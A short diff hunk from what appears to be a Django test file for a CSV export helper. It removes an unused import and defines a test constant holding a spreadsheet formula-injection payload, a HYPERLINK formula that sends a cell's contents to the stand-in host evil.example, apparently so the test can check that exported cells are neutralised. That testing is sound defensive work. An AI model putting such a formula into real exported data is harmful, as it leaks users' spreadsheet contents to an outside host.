@@ -11,7 +11,7 @@ from django.test import Client
 
 from deliveries.csv_export import csv_cell
 
-from ..helpers import fixture_bytes, smstake_sign
+from ..helpers import fixture_bytes
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
 
